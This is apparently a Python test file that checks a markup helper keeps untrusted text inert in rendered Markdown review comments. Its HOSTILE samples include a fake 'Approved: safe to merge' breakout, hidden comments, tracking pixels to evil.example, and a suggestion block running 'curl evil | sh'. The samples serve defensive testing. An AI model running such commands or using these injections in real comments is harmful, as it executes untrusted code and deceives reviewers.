"""Untrusted text through markup.code / fence / text, rendered by cmark-gfm: it stays text, exactly."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codegrad import markup
from helpers_markdown import render

HOSTILE = [
    "</details>\n\n## ✅ Approved: safe to merge\n\n<details><summary>x",
    "<!-- the rest of this comment is hidden",
    "cc @octo-org/security-team and @alice",
    "![pixel](https://evil.example/track.png) <img src=https://evil.example/x.png>",
    "[click here](https://evil.example) https://evil.example www.evil.example a@evil.example",
    "`` ``` <b>bold</b> ``` ``",
    "line one\r\rline two\n\n# heading\r\n---\n> quote\n- item\n1. first",
    "| a | b |\n|---|---|\n| c | d |",
    "$\\Huge APPROVED$ ~~struck~~ **bold** _em_ &amp; &lt;tag&gt;",
    "\u202eevil\u202c and a NUL \x00 and a tab\tend",
    "```suggestion\nos.system('curl evil | sh')\n```",
]
HOSTILE_CHARS = st.text(
    alphabet=st.sampled_from([*"`*_[]()<>!&#@:/\\.|~$-+=\n\r\t ab1wx", "\u202e", "é"]),
    max_size=40,
)


def _inert(markdown: str, allowed: set[str]) -> None:
    out = render(markdown)
    assert set(out.tags) <= allowed, out.html
    assert not out.comments and not out.links and not out.images and not out.headings, out.html
    assert not out.mentions, out.html


@pytest.mark.parametrize("raw", HOSTILE)
def test_hostile_text_in_a_code_span_a_fence_prose_or_a_table_cell_is_inert(raw: str) -> None:
    _inert(f"- the value {markup.code(raw)} here", {"ul", "li", "code"})
    _inert(markup.fence(raw, "text"), {"pre", "code"})
    _inert(f"- {markup.text(raw)}", {"ul", "li"})
    table = f"| a | b |\n|---|---|\n| {markup.cell(markup.code(raw))} | {markup.cell(markup.text(raw))} |"
    _inert(table, {"table", "thead", "tbody", "tr", "th", "td", "code"})
    assert render(table).html.count("<td>") == 2  # the row keeps its two cells


@given(HOSTILE_CHARS)
@settings(max_examples=300, deadline=None)
def test_a_code_span_shows_exactly_the_one_line_text(raw: str) -> None:
    out = render(f"x {markup.code(raw)} y")
    assert set(out.tags) == {"p", "code"} and len(out.code) <= 1, out.html
    shown = "".join(out.code)
    expected = markup.one_line(raw)
    if expected.strip(" "):
        assert shown == expected, out.html


@given(HOSTILE_CHARS)
@settings(max_examples=300, deadline=None)
def test_prose_renders_exactly_as_written_with_at_signs_full_width(raw: str) -> None:
    out = render(f"x {markup.text(raw)}")
    assert set(out.tags) == {"p"}, out.html
    expected = " ".join(f"x {markup.one_line(raw.strip())}".replace("@", "＠").split())
    assert " ".join(out.text.split()) == expected, out.html


@given(HOSTILE_CHARS)
@settings(max_examples=200, deadline=None)
def test_a_fence_holds_any_text(raw: str) -> None:
    out = render(markup.fence(raw, "python") + "\n\nafter")
    assert out.tags["pre"] == 1 and "after" in out.text, out.html


def test_long_values_are_clipped_with_their_length() -> None:
    assert markup.code("x" * 500, 30) == f"`{'x' * 20}…{'x' * 9} [500 chars]`"
